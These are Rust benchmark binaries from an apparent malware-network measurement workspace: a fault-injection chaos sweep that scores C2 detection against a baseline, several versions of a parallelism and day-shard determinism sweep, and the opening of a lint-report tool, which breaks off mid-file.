    lifetime_error: f64,
    activation_rate: f64,
    profiled: usize,
    degradation_rows: usize,
    emu_fault_rows: usize,
    dump_hash: u64,
    matches_baseline: bool,
}

/// FNV-1a over the canonical dataset dump: cheap byte-identity evidence
/// the artifact can carry (two equal hashes in the artifact == two
/// byte-identical runs, reproducible from the recorded seeds).
fn fnv64(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

fn run_cell(world: &World, seed: u64, samples: usize, plan: FaultPlan) -> Datasets {
    let popts = PipelineOpts {
        seed,
        parallelism: 2,
        max_samples: Some(samples),
        faults: plan,
        syn_retries: 1,
        ..PipelineOpts::fast()
    };
    let (data, _vendors) = Pipeline::new(popts).run(world);
    data
}

fn emu_fault_rows(data: &Datasets) -> usize {
    data.health
        .rows
        .iter()
        .filter(|r| r.kind == HealthKind::EmuFault)
        .count()
}

fn main() {
    let mut opts = parse_args();
    if opts.samples == 1447 {
        opts.samples = 48; // CI-sized corpus; still hits every stage
    }
    let first_seed = opts.fault_seed.unwrap_or(FAULT_SEED);
    let fault_seeds = [first_seed, first_seed.wrapping_add(SEED_STRIDE)];
    let intensities: Vec<f64> = INTENSITY_MILLE.iter().map(|&m| m as f64 / 1000.0).collect();

    let world = World::generate(WorldConfig {
        seed: opts.seed,
        n_samples: opts.samples,
        cal: Calibration::default(),
    });

    // --- the chaos-free baseline every zero cell must reproduce ---
    let baseline = run_cell(&world, opts.seed, opts.samples, FaultPlan::none());
    let baseline_dump = baseline.canonical_dump();
    let baseline_hash = fnv64(baseline_dump.as_bytes());
    let baseline_eval = evaluate(&world, &baseline);
    let baseline_lifetime = c2_lifetime_error(&world, &baseline);
    println!(
        "baseline: {} profiled, recall {:.1}%, precision {:.1}%, lifetime err {:.2}d (dump {baseline_hash:#018x})",
        baseline.samples.len(),
        baseline_eval.c2_recall,
        baseline_eval.c2_precision,
        baseline_lifetime,
    );

    // --- the sweep, streamed as malnet.events v1 ---
    let events_path = std::path::Path::new("results/events_chaos_sweep.jsonl");
    let sink = EventSink::create(events_path).expect("create sweep event stream");
    sink.emit(
        "study_start",
        None,
        &[
            ("seed", Field::U(opts.seed)),
            ("samples", Field::U(opts.samples as u64)),
            (
                "sweep_cells",
                Field::U((fault_seeds.len() * intensities.len()) as u64),
            ),
        ],
    );
    let mut cells: Vec<Cell> = Vec::new();
    let mut samples_done: u64 = 0;
    for &fs in &fault_seeds {
        for (i, &intensity) in intensities.iter().enumerate() {
            let plan = FaultPlan::emu_sweep(fs, intensity);
            let data = run_cell(&world, opts.seed, opts.samples, plan);
            let dump = data.canonical_dump();
            let hash = fnv64(dump.as_bytes());
            let ev = evaluate(&world, &data);
            let cell = Cell {
                fault_seed: fs,
                intensity,
                c2_recall: ev.c2_recall,
                c2_precision: ev.c2_precision,
                lifetime_error: c2_lifetime_error(&world, &data),
                activation_rate: ev.activation_rate,
                profiled: data.samples.len(),
                degradation_rows: data.health.rows.len(),
                emu_fault_rows: emu_fault_rows(&data),
                dump_hash: hash,
                matches_baseline: dump == baseline_dump,
            };
            samples_done += data.samples.len() as u64;
            sink.emit(
                "heartbeat",
                None,
                &[("samples_completed", Field::U(samples_done))],
            );
            sink.emit(
                "rollup",
                Some("sweep_cell"),
                &[
                    ("fault_seed", Field::U(fs)),
                    ("intensity_mille", Field::U(INTENSITY_MILLE[i])),
                    ("profiled", Field::U(cell.profiled as u64)),
                    ("degradation_rows", Field::U(cell.degradation_rows as u64)),
                    ("emu_fault_rows", Field::U(cell.emu_fault_rows as u64)),
                    (
                        "recall_bp",
                        Field::U((cell.c2_recall * 100.0).round() as u64),
                    ),
                    (
                        "precision_bp",
                        Field::U((cell.c2_precision * 100.0).round() as u64),
                    ),
                    (
                        "lifetime_err_millidays",
                        Field::U((cell.lifetime_error * 1000.0).round() as u64),
                    ),
                ],
            );
            println!(
                "cell seed={fs} intensity={intensity:.2}: recall {:>5.1}% precision {:>5.1}% \
                 lifetime err {:>5.2}d | {} degradation rows ({} emu) {}",
                cell.c2_recall,
                cell.c2_precision,
                cell.lifetime_error,
                cell.degradation_rows,
                cell.emu_fault_rows,
                if cell.matches_baseline {
                    "[= baseline]"
                } else {
                    ""
                },
            );
            cells.push(cell);
        }
    }
    sink.finish();

    // --- gates ---
    let mut failures: Vec<String> = Vec::new();
    for c in &cells {
        if c.intensity == 0.0 && (!c.matches_baseline || c.dump_hash != baseline_hash) {
            failures.push(format!(
                "zero-rate cell (fault_seed {}) diverged from the chaos-free \
                 baseline: dump {:#018x} != {baseline_hash:#018x} — the emulator \
                 fault domain is not inert at rate zero",
                c.fault_seed, c.dump_hash
            ));
        }
    }
    let top = intensities.last().copied().unwrap_or(1.0);
    if !cells
        .iter()
        .any(|c| c.intensity == top && !c.matches_baseline)
    {
        failures.push(format!(
            "no top-intensity ({top}) cell diverged from baseline — injection inert, \
             the sweep charts nothing"
        ));
    }

    // --- assemble malnet.chaos_sweep v1 ---
    let mut out = String::new();
    out.push_str("{\"schema\":\"malnet.chaos_sweep\",\"version\":1,");
    let _ = write!(
        out,
        "\"samples\":{},\"seed\":{},\"fault_seeds\":[{},{}],",
        opts.samples, opts.seed, fault_seeds[0], fault_seeds[1]
    );
    out.push_str("\"intensities\":[");
    for (i, x) in intensities.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let _ = write!(out, "{x}");
    }
    out.push_str("],");
    let _ = write!(
        out,
        "\"baseline\":{{\"dump_fnv64\":{baseline_hash},\"profiled\":{},\
         \"c2_recall\":{},\"c2_precision\":{},\"c2_lifetime_error\":{},\
         \"activation_rate\":{}}},",
        baseline.samples.len(),
        baseline_eval.c2_recall,
        baseline_eval.c2_precision,
        baseline_lifetime,
        baseline_eval.activation_rate,
    );
    out.push_str("\"cells\":[");
    for (i, c) in cells.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let _ = write!(
            out,
            "{{\"fault_seed\":{},\"intensity\":{},\"c2_recall\":{},\
             \"c2_precision\":{},\"c2_lifetime_error\":{},\"activation_rate\":{},\
             \"profiled\":{},\"degradation_rows\":{},\"emu_fault_rows\":{},\
             \"dump_fnv64\":{},\"matches_baseline\":{}}}",
            c.fault_seed,
            c.intensity,
            c.c2_recall,
            c.c2_precision,
            c.lifetime_error,
            c.activation_rate,
            c.profiled,
            c.degradation_rows,
            c.emu_fault_rows,
            c.dump_hash,
            c.matches_baseline,
        );
    }
    out.push_str("]}");
    let path = std::path::Path::new("results/chaos_sweep.json");
    if let Some(dir) = path.parent() {
        let _ = std::fs::create_dir_all(dir);
    }
    std::fs::write(path, &out).expect("write chaos sweep artifact");
    println!("wrote {} ({} bytes)", path.display(), out.len());

    // --- self-validation: artifact ---
    let reread = std::fs::read_to_string(path).expect("re-read chaos sweep artifact");
    match json::parse(&reread) {
        Err(e) => failures.push(format!("artifact is not valid JSON: {e}")),
        Ok(v) => {
            if v.get("schema").and_then(|s| s.as_str()) != Some("malnet.chaos_sweep") {
                failures.push("schema field missing or wrong".to_string());
            }
            if v.get("version").and_then(|n| n.as_u64()) != Some(1) {
                failures.push("version field missing or wrong".to_string());
            }
            let seeds = v
                .get("fault_seeds")
                .and_then(|a| a.as_array())
                .map_or(0, <[_]>::len);
            let rates = v
                .get("intensities")
                .and_then(|a| a.as_array())
                .map_or(0, <[_]>::len);
            if seeds < 2 || rates < 3 {
                failures.push(format!(
                    "grid too small: {seeds} seeds × {rates} intensities (need ≥2 × ≥3)"
                ));
            }
            let n_cells = v
                .get("cells")
                .and_then(|a| a.as_array())
                .map_or(0, <[_]>::len);
            if n_cells != seeds * rates {
                failures.push(format!(
                    "cells round-trip mismatch: {n_cells} cells for a {seeds}×{rates} grid"
                ));
            }
            if let Some(arr) = v.get("cells").and_then(|a| a.as_array()) {
                for c in arr {
                    let recall = c
                        .get("c2_recall")
                        .and_then(json::Value::as_f64)
                        .unwrap_or(-1.0);
                    if !(0.0..=100.0).contains(&recall) {
                        failures.push(format!("cell has out-of-range c2_recall {recall}"));
                    }
                }
            }
        }
    }

    // --- self-validation: event stream ---
    let stream = std::fs::read_to_string(events_path).expect("re-read sweep event stream");
    match malnet_telemetry::events::validate_stream(&stream) {
        Err(e) => failures.push(format!("sweep event stream invalid: {e}")),
        Ok(summary) => {
            if summary.heartbeats != cells.len() as u64 {
                failures.push(format!(
                    "sweep stream has {} heartbeats for {} cells",
                    summary.heartbeats,
                    cells.len()
                ));
            }
            let rollups = summary
                .rollups
                .iter()
                .filter(|(k, _)| k == "sweep_cell")
                .count();
            if rollups != cells.len() {
                failures.push(format!(
                    "sweep stream has {rollups} sweep_cell rollups for {} cells",
                    cells.len()
                ));
            }
        }
    }

    if !failures.is_empty() {
        for f in &failures {
            eprintln!("FAIL: {f}");
        }
        std::process::exit(1);
    }

    // --- the frontier, charted ---
    println!("\ndegradation frontier (seed-averaged):");
    println!("intensity | recall | precision | lifetime err | emu rows");
    for &intensity in &intensities {
        let row: Vec<&Cell> = cells.iter().filter(|c| c.intensity == intensity).collect();
        let n = row.len() as f64;
        let recall = row.iter().map(|c| c.c2_recall).sum::<f64>() / n;
        let precision = row.iter().map(|c| c.c2_precision).sum::<f64>() / n;
        let lifetime = row.iter().map(|c| c.lifetime_error).sum::<f64>() / n;
        let emu: usize = row.iter().map(|c| c.emu_fault_rows).sum();
        let bar = "#".repeat((recall / 5.0).round() as usize);
        println!(
            "   {intensity:>5.2}  | {recall:>5.1}% | {precision:>8.1}% | {lifetime:>9.2}d | {emu:>8} {bar}"
        );
    }
    println!(
        "chaos sweep OK: {} cells, zero cells byte-identical to baseline ({baseline_hash:#018x})",
        cells.len()
    );
}
