//! Parallelism sweep for the pipeline's two fan-out stages.
//!
//! Times `run_contained_batch` — the phase-A fan-out behind
//! `PipelineOpts::parallelism` — over one fixed batch at several worker
//! counts, then times the full pipeline (phase A + parallel phase B +
//! D-PC2 probing) at the same settings. Because every fan-out merges
//! back in canonical order, the outputs are byte-identical at every N;
//! the sweep quantifies the wall-clock side of that trade **and
//! enforces the byte side**: each parallel run's datasets and vendor
//! state are diffed against the sequential baseline, and any divergence
//! exits non-zero (the CI gate).
//!
//! A third sweep exercises the day-epoch axis (`PipelineOpts::
//! day_shards`): the study's day range is partitioned into contiguous
//! epochs that run as independent units and merge through the canonical
//! reduce, so every `day_shards × parallelism` cell must also be
//! byte-identical to the sequential baseline. Divergent cells land in
//! `divergent_day_shards` and fail the run the same way.
//!
//! Besides the stdout tables, the sweep writes a machine-readable
//! artifact to `results/par_sweep.json` (`malnet.par_sweep` v3): all
//! three sweeps, a per-N phase-A/phase-B/probing wall-time breakdown,
//! both divergence verdicts, plus the full telemetry
//! [`RunReport`](malnet_telemetry::RunReport) of the final instrumented
//! pipeline run. EXPERIMENTS.md documents the format.
//!
//! Usage:
//! `cargo run -p malnet-bench --release --bin par_sweep -- [--samples N] [--seed S]`

use std::fmt::Write as _;
use std::time::Instant;

use malnet_bench::parse_args;
use malnet_bench::timing::fmt_duration;
use malnet_botgen::world::{Calibration, World, WorldConfig};
use malnet_core::pipeline::run_contained_batch;
use malnet_core::{Pipeline, PipelineOpts};
use malnet_telemetry::Telemetry;

/// Worker counts the stage and end-to-end sweeps measure.
const SWEEP_N: [usize; 4] = [1, 2, 4, 8];

/// `(day_shards, parallelism)` cells of the epoch sweep. `(1, 1)` is
/// the sequential baseline every other cell is byte-diffed against.
const SHARD_CELLS: [(usize, usize); 6] = [(1, 1), (2, 1), (2, 8), (4, 8), (8, 1), (8, 8)];

/// One end-to-end measurement: wall time plus the coordinator-side
/// wall-time of each pipeline phase, read from that run's telemetry.
struct PipelineRow {
    parallelism: usize,
    wall_us: u64,
    phase_a_us: u64,
    phase_b_us: u64,
    probing_us: u64,
}

/// One cell of the day-epoch sweep: the study split into `day_shards`
/// contiguous epochs, run on a pool of `parallelism` workers.
struct ShardRow {
    day_shards: usize,
    parallelism: usize,
    wall_us: u64,
}

fn main() {
    let mut opts = parse_args();
    if opts.samples == 1447 {
        opts.samples = 96; // the sweep runs every batch several times
    }
    let world = World::generate(WorldConfig {
        seed: opts.seed,
        n_samples: opts.samples,
        cal: Calibration::default(),
    });
    let batch: Vec<usize> = (0..world.samples.len()).collect();
    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());
    println!(
        "contained-activation sweep: {} samples, seed {}, {} cores visible",
        opts.samples, opts.seed, cores
    );

    println!("\n== stage in isolation: run_contained_batch over one day's batch ==");
    println!(
        "{:>4} {:>14} {:>10} {:>16}",
        "N", "wall", "speedup", "samples/sec"
    );
    let tel_off = Telemetry::disabled();
    let mut stage_rows: Vec<(usize, u64)> = Vec::new();
    let mut baseline = None;
    for n in SWEEP_N {
        let popts = PipelineOpts {
            seed: opts.seed,
            parallelism: n,
            ..PipelineOpts::fast()
        };
        // One warm-up pass, then the timed pass.
        let _ = run_contained_batch(&world, &popts, 0, &batch, &tel_off);
        let t0 = Instant::now();
        let outcomes = run_contained_batch(&world, &popts, 0, &batch, &tel_off);
        let wall = t0.elapsed();
        assert_eq!(outcomes.len(), batch.len());
        let base = *baseline.get_or_insert(wall);
        println!(
            "{n:>4} {:>14} {:>9.2}x {:>16.1}",
            fmt_duration(wall),
            base.as_secs_f64() / wall.as_secs_f64(),
            batch.len() as f64 / wall.as_secs_f64(),
        );
        stage_rows.push((n, wall.as_micros() as u64));
    }

    println!("\n== end to end: Pipeline::run (phase A + phase B + probing) ==");
    println!(
        "{:>4} {:>14} {:>10} {:>12} {:>12} {:>12}",
        "N", "wall", "speedup", "phase A", "phase B", "probing"
    );
    let mut pipeline_rows: Vec<PipelineRow> = Vec::new();
    let mut last_report = None;
    let mut baseline = None;
    let mut baseline_dumps: Option<(String, String)> = None;
    let mut divergent: Vec<usize> = Vec::new();
    for n in SWEEP_N {
        let popts = PipelineOpts {
            seed: opts.seed,
            parallelism: n,
            max_samples: Some(opts.samples),
            ..PipelineOpts::fast()
        };
        // Telemetry + event streaming on for every end-to-end run: the
        // sweep doubles as a demonstration that instrumentation does not
        // break scaling, and the last run's report lands in the JSON
        // artifact. `File::create` truncates, so the streamed artifact
        // CI validates is the widest run's — every width must produce a
        // valid stream for the final file to exist at all.
        let sink = malnet_telemetry::EventSink::create(std::path::Path::new(
            "results/events_par_sweep.jsonl",
        ))
        .expect("create event stream");
        let tel = Telemetry::enabled_with_events(sink);
        let t0 = Instant::now();
        let (data, vendors) = Pipeline::with_telemetry(popts, tel.clone()).run(&world);
        let wall = t0.elapsed();
        let report = tel.report();
        let span_us = |name: &str| report.span(name).map_or(0, |s| s.total_us);
        let row = PipelineRow {
            parallelism: n,
            wall_us: wall.as_micros() as u64,
            phase_a_us: span_us("pipeline.phase_a"),
            phase_b_us: span_us("pipeline.phase_b"),
            probing_us: span_us("pipeline.probing"),
        };
        let base = *baseline.get_or_insert(wall);
        println!(
            "{n:>4} {:>14} {:>9.2}x {:>12} {:>12} {:>12}",
            fmt_duration(wall),
            base.as_secs_f64() / wall.as_secs_f64(),
            fmt_duration(std::time::Duration::from_micros(row.phase_a_us)),
            fmt_duration(std::time::Duration::from_micros(row.phase_b_us)),
            fmt_duration(std::time::Duration::from_micros(row.probing_us)),
        );
        // The byte gate: every parallel run must reproduce the
        // sequential baseline exactly, or the sweep fails.
        let dumps = (data.canonical_dump(), vendors.canonical_dump());
        match &baseline_dumps {
            None => baseline_dumps = Some(dumps),
            Some(base_dumps) => {
                if *base_dumps != dumps {
                    eprintln!("DIVERGENCE: parallelism {n} produced different bytes than 1");
                    divergent.push(n);
                }
            }
        }
        pipeline_rows.push(row);
        last_report = Some(report);
    }

    println!("\n== day-epoch sharding: Pipeline::run at day_shards x parallelism ==");
    println!(
        "{:>7} {:>4} {:>14} {:>10}",
        "shards", "N", "wall", "speedup"
    );
    let mut shard_rows: Vec<ShardRow> = Vec::new();
    let mut shard_baseline = None;
    let mut divergent_day_shards: Vec<(usize, usize)> = Vec::new();
    for (shards, n) in SHARD_CELLS {
        let popts = PipelineOpts {
            seed: opts.seed,
            parallelism: n,
            day_shards: shards,
            max_samples: Some(opts.samples),
            ..PipelineOpts::fast()
        };
        // Same streaming discipline as the end-to-end sweep: the file
        // is truncated per run, so the surviving stream CI validates is
        // the widest epoch-sharded cell's — every cell must stream a
        // valid `malnet.events` file for the final one to exist.
        let sink = malnet_telemetry::EventSink::create(std::path::Path::new(
            "results/events_par_sweep.jsonl",
        ))
        .expect("create event stream");
        let tel = Telemetry::enabled_with_events(sink);
        let t0 = Instant::now();
        let (data, vendors) = Pipeline::with_telemetry(popts, tel.clone()).run(&world);
        let wall = t0.elapsed();
        let base = *shard_baseline.get_or_insert(wall);
        println!(
            "{shards:>7} {n:>4} {:>14} {:>9.2}x",
            fmt_duration(wall),
            base.as_secs_f64() / wall.as_secs_f64(),
        );
        // Every epoch-sharded run must reproduce the sequential
        // baseline (day_shards 1, parallelism 1 of this sweep — which
        // itself matched the end-to-end sweep's baseline above, since
        // day_shards 1 runs through the same epoch machinery).
        let dumps = (data.canonical_dump(), vendors.canonical_dump());
        match &baseline_dumps {
            None => baseline_dumps = Some(dumps),
            Some(base_dumps) => {
                if *base_dumps != dumps {
                    eprintln!(
                        "DIVERGENCE: day_shards {shards} x parallelism {n} produced \
                         different bytes than the sequential baseline"
                    );
                    divergent_day_shards.push((shards, n));
                }
            }
        }
        shard_rows.push(ShardRow {
            day_shards: shards,
            parallelism: n,
            wall_us: wall.as_micros() as u64,
        });
        last_report = Some(tel.report());
    }

    let report = last_report.expect("at least one pipeline run");
    let json = sweep_json(
        opts.samples,
        opts.seed,
        &stage_rows,
        &pipeline_rows,
        &shard_rows,
        &divergent,
        &divergent_day_shards,
        &report,
    );
    let path = std::path::Path::new("results/par_sweep.json");
    if let Some(dir) = path.parent() {
        let _ = std::fs::create_dir_all(dir);
    }
    match std::fs::write(path, &json) {
        Ok(()) => println!("\nwrote {} ({} bytes)", path.display(), json.len()),
        Err(e) => eprintln!("\nfailed to write {}: {e}", path.display()),
    }
    if divergent.is_empty() && divergent_day_shards.is_empty() {
        println!("byte check: all parallel and epoch-sharded runs match the sequential baseline");
    } else {
        if !divergent.is_empty() {
            eprintln!(
                "byte check FAILED: parallelism {divergent:?} diverged from the sequential baseline"
            );
        }
        if !divergent_day_shards.is_empty() {
            eprintln!(
                "byte check FAILED: day-shard cells {divergent_day_shards:?} \
                 (day_shards, parallelism) diverged from the sequential baseline"
            );
        }
        std::process::exit(1);
    }
}

/// Assemble the `malnet.par_sweep` v3 artifact (see EXPERIMENTS.md).
#[allow(clippy::too_many_arguments)]
fn sweep_json(
    samples: usize,
    seed: u64,
    stage: &[(usize, u64)],
    pipeline: &[PipelineRow],
    shards: &[ShardRow],
    divergent: &[usize],
    divergent_day_shards: &[(usize, usize)],
    report: &malnet_telemetry::RunReport,
) -> String {
    let mut out = String::new();
    out.push_str("{\"schema\":\"malnet.par_sweep\",\"version\":3,");
    let _ = write!(out, "\"samples\":{samples},\"seed\":{seed},");
    out.push_str("\"stage_sweep\":[");
    for (i, (n, wall_us)) in stage.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let _ = write!(out, "{{\"parallelism\":{n},\"wall_us\":{wall_us}}}");
    }
    out.push_str("],\"pipeline_sweep\":[");
    for (i, row) in pipeline.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let _ = write!(
            out,
            "{{\"parallelism\":{},\"wall_us\":{}}}",
            row.parallelism, row.wall_us
        );
    }
    out.push_str("],\"phase_breakdown\":[");
    for (i, row) in pipeline.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let _ = write!(
            out,
            "{{\"parallelism\":{},\"phase_a_us\":{},\"phase_b_us\":{},\"probing_us\":{}}}",
            row.parallelism, row.phase_a_us, row.phase_b_us, row.probing_us
        );
    }
    out.push_str("],\"shard_sweep\":[");
    for (i, row) in shards.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let _ = write!(
            out,
            "{{\"day_shards\":{},\"parallelism\":{},\"wall_us\":{}}}",
            row.day_shards, row.parallelism, row.wall_us
        );
    }
    out.push_str("],");
    let _ = write!(
        out,
        "\"divergent\":[{}],",
        divergent
            .iter()
            .map(|n| n.to_string())
            .collect::<Vec<_>>()
            .join(",")
    );
    let _ = write!(
        out,
        "\"divergent_day_shards\":[{}],",
        divergent_day_shards
            .iter()
            .map(|(s, n)| format!("{{\"day_shards\":{s},\"parallelism\":{n}}}"))
            .collect::<Vec<_>>()
            .join(",")
    );
    let _ = write!(out, "\"run_report\":{}}}", report.to_json());
    out
}
