//! Parallelism sweep for the contained-activation stage.
//!
//! Times `run_contained_batch` — the phase-A fan-out behind
//! `PipelineOpts::parallelism` — over one fixed batch at several worker
//! counts, then times the full pipeline at the same settings. Because
//! the merge stage consumes outcomes in canonical sample-id order, the
//! outputs are byte-identical at every N (the determinism suite proves
//! this); the sweep quantifies the wall-clock side of that trade.
//!
//! Besides the stdout table, the sweep writes a machine-readable
//! artifact to `results/par_sweep.json`: both sweeps plus the full
//! telemetry [`RunReport`](malnet_telemetry::RunReport) of the final
//! instrumented pipeline run (per-stage self/total wall-times, counters,
//! histograms, per-day rollups). EXPERIMENTS.md documents the format.
//!
//! Usage:
//! `cargo run -p malnet-bench --release --bin par_sweep -- [--samples N] [--seed S]`

use std::fmt::Write as _;
use std::time::Instant;

use malnet_bench::parse_args;
use malnet_bench::timing::fmt_duration;
use malnet_botgen::world::{Calibration, World, WorldConfig};
use malnet_core::pipeline::run_contained_batch;
use malnet_core::{Pipeline, PipelineOpts};
use malnet_telemetry::Telemetry;

/// Worker counts both sweeps measure.
const SWEEP_N: [usize; 4] = [1, 2, 4, 8];

fn main() {
    let mut opts = parse_args();
    if opts.samples == 1447 {
        opts.samples = 96; // the sweep runs every batch several times
    }
    let world = World::generate(WorldConfig {
        seed: opts.seed,
        n_samples: opts.samples,
        cal: Calibration::default(),
    });
    let batch: Vec<usize> = (0..world.samples.len()).collect();
    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());
    println!(
        "contained-activation sweep: {} samples, seed {}, {} cores visible",
        opts.samples, opts.seed, cores
    );

    println!("\n== stage in isolation: run_contained_batch over one day's batch ==");
    println!(
        "{:>4} {:>14} {:>10} {:>16}",
        "N", "wall", "speedup", "samples/sec"
    );
    let tel_off = Telemetry::disabled();
    let mut stage_rows: Vec<(usize, u64)> = Vec::new();
    let mut baseline = None;
    for n in SWEEP_N {
        let popts = PipelineOpts {
            seed: opts.seed,
            parallelism: n,
            ..PipelineOpts::fast()
        };
        // One warm-up pass, then the timed pass.
        let _ = run_contained_batch(&world, &popts, 0, &batch, &tel_off);
        let t0 = Instant::now();
        let outcomes = run_contained_batch(&world, &popts, 0, &batch, &tel_off);
        let wall = t0.elapsed();
        assert_eq!(outcomes.len(), batch.len());
        let base = *baseline.get_or_insert(wall);
        println!(
            "{n:>4} {:>14} {:>9.2}x {:>16.1}",
            fmt_duration(wall),
            base.as_secs_f64() / wall.as_secs_f64(),
            batch.len() as f64 / wall.as_secs_f64(),
        );
        stage_rows.push((n, wall.as_micros() as u64));
    }

    println!("\n== end to end: Pipeline::run (contained stage + sequential merge) ==");
    println!("{:>4} {:>14} {:>10}", "N", "wall", "speedup");
    let mut pipeline_rows: Vec<(usize, u64)> = Vec::new();
    let mut last_report = None;
    let mut baseline = None;
    for n in SWEEP_N {
        let popts = PipelineOpts {
            seed: opts.seed,
            parallelism: n,
            max_samples: Some(opts.samples),
            run_probing: false,
            ..PipelineOpts::fast()
        };
        // Telemetry on for every end-to-end run: the sweep doubles as a
        // demonstration that instrumentation does not break scaling, and
        // the last run's report lands in the JSON artifact.
        let tel = Telemetry::enabled();
        let t0 = Instant::now();
        let (data, _) = Pipeline::with_telemetry(popts, tel.clone()).run(&world);
        let wall = t0.elapsed();
        let base = *baseline.get_or_insert(wall);
        println!(
            "{n:>4} {:>14} {:>9.2}x   ({} sample records)",
            fmt_duration(wall),
            base.as_secs_f64() / wall.as_secs_f64(),
            data.samples.len(),
        );
        pipeline_rows.push((n, wall.as_micros() as u64));
        last_report = Some(tel.report());
    }

    let report = last_report.expect("at least one pipeline run");
    if let Some(phase_a) = report.span("pipeline.phase_a") {
        println!(
            "\nphase A: {} total, {} self across {} day(s); merge: {}",
            fmt_duration(std::time::Duration::from_micros(phase_a.total_us)),
            fmt_duration(std::time::Duration::from_micros(phase_a.self_us)),
            phase_a.calls,
            report
                .span("pipeline.merge")
                .map(|m| fmt_duration(std::time::Duration::from_micros(m.total_us)))
                .unwrap_or_else(|| "-".into()),
        );
    }

    let json = sweep_json(opts.samples, opts.seed, &stage_rows, &pipeline_rows, &report);
    let path = std::path::Path::new("results/par_sweep.json");
    if let Some(dir) = path.parent() {
        let _ = std::fs::create_dir_all(dir);
    }
    match std::fs::write(path, &json) {
        Ok(()) => println!("\nwrote {} ({} bytes)", path.display(), json.len()),
        Err(e) => eprintln!("\nfailed to write {}: {e}", path.display()),
    }
    println!("(outputs are byte-identical across N; see crates/core/tests/parallel_determinism.rs)");
}

/// Assemble the `malnet.par_sweep` v1 artifact (see EXPERIMENTS.md).
fn sweep_json(
    samples: usize,
    seed: u64,
    stage: &[(usize, u64)],
    pipeline: &[(usize, u64)],
    report: &malnet_telemetry::RunReport,
) -> String {
    let mut out = String::new();
    out.push_str("{\"schema\":\"malnet.par_sweep\",\"version\":1,");
    let _ = write!(out, "\"samples\":{samples},\"seed\":{seed},");
    for (key, rows) in [("stage_sweep", stage), ("pipeline_sweep", pipeline)] {
        let _ = write!(out, "\"{key}\":[");
        for (i, (n, wall_us)) in rows.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(out, "{{\"parallelism\":{n},\"wall_us\":{wall_us}}}");
        }
        out.push_str("],");
    }
    let _ = write!(out, "\"run_report\":{}}}", report.to_json());
    out
}
