//! Parallelism sweep for the contained-activation stage.
//!
//! Times `run_contained_batch` — the phase-A fan-out behind
//! `PipelineOpts::parallelism` — over one fixed batch at several worker
//! counts, then times the full pipeline at the same settings. Because
//! the merge stage consumes outcomes in canonical sample-id order, the
//! outputs are byte-identical at every N (the determinism suite proves
//! this); the sweep quantifies the wall-clock side of that trade.
//!
//! Usage:
//! `cargo run -p malnet-bench --release --bin par_sweep -- [--samples N] [--seed S]`

use std::time::Instant;

use malnet_bench::parse_args;
use malnet_bench::timing::fmt_duration;
use malnet_botgen::world::{Calibration, World, WorldConfig};
use malnet_core::pipeline::run_contained_batch;
use malnet_core::{Pipeline, PipelineOpts};

fn main() {
    let mut opts = parse_args();
    if opts.samples == 1447 {
        opts.samples = 96; // the sweep runs every batch several times
    }
    let world = World::generate(WorldConfig {
        seed: opts.seed,
        n_samples: opts.samples,
        cal: Calibration::default(),
    });
    let batch: Vec<usize> = (0..world.samples.len()).collect();
    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());
    println!(
        "contained-activation sweep: {} samples, seed {}, {} cores visible",
        opts.samples, opts.seed, cores
    );

    println!("\n== stage in isolation: run_contained_batch over one day's batch ==");
    println!(
        "{:>4} {:>14} {:>10} {:>16}",
        "N", "wall", "speedup", "samples/sec"
    );
    let mut baseline = None;
    for n in [1usize, 2, 4, 8] {
        let popts = PipelineOpts {
            seed: opts.seed,
            parallelism: n,
            ..PipelineOpts::fast()
        };
        // One warm-up pass, then the timed pass.
        let _ = run_contained_batch(&world, &popts, 0, &batch);
        let t0 = Instant::now();
        let outcomes = run_contained_batch(&world, &popts, 0, &batch);
        let wall = t0.elapsed();
        assert_eq!(outcomes.len(), batch.len());
        let base = *baseline.get_or_insert(wall);
        println!(
            "{n:>4} {:>14} {:>9.2}x {:>16.1}",
            fmt_duration(wall),
            base.as_secs_f64() / wall.as_secs_f64(),
            batch.len() as f64 / wall.as_secs_f64(),
        );
    }

    println!("\n== end to end: Pipeline::run (contained stage + sequential merge) ==");
    println!("{:>4} {:>14} {:>10}", "N", "wall", "speedup");
    let mut baseline = None;
    for n in [1usize, 2, 4, 8] {
        let popts = PipelineOpts {
            seed: opts.seed,
            parallelism: n,
            max_samples: Some(opts.samples),
            run_probing: false,
            ..PipelineOpts::fast()
        };
        let t0 = Instant::now();
        let (data, _) = Pipeline::new(popts).run(&world);
        let wall = t0.elapsed();
        let base = *baseline.get_or_insert(wall);
        println!(
            "{n:>4} {:>14} {:>9.2}x   ({} sample records)",
            fmt_duration(wall),
            base.as_secs_f64() / wall.as_secs_f64(),
            data.samples.len(),
        );
    }
    println!("\n(outputs are byte-identical across N; see crates/core/tests/parallel_determinism.rs)");
}
