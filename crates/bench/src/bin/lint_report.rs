//! Run `malnet-lint` over the workspace and emit the CI artifact.
//!
//! This is the determinism/robustness gate: the token-aware rule set in
//! `malnet-lint` (wall-clock reads, hash-ordered iteration feeding
//! serialized output, unjustified panic sites, computed wire indexing,
//! seed-domain discipline, stale suppressions — see `crates/lint` and
//! DESIGN.md §static analysis) runs over every `.rs` file, writes the
//! versioned `malnet.lint_report` v1 artifact to
//! `results/lint_report.json`, self-validates the written JSON, and
//! exits non-zero listing every violation.
//!
//! Usage: `cargo run -p malnet-bench --bin lint_report` from the
//! workspace root. The older `source_lint` bin is a thin alias that
//! runs the same rules without writing the artifact.

use std::path::Path;

fn main() {
    let root = std::env::current_dir().expect("cwd");
    let lint = malnet_lint::lint_workspace(&root);
    if lint.files_scanned == 0 {
        eprintln!(
            "FAIL: no .rs files found under {} — run from the workspace root",
            root.display()
        );
        std::process::exit(1);
    }

    let json = lint.to_json();
    let out_path = Path::new("results/lint_report.json");
    if let Some(dir) = out_path.parent() {
        std::fs::create_dir_all(dir).expect("create results/");
    }
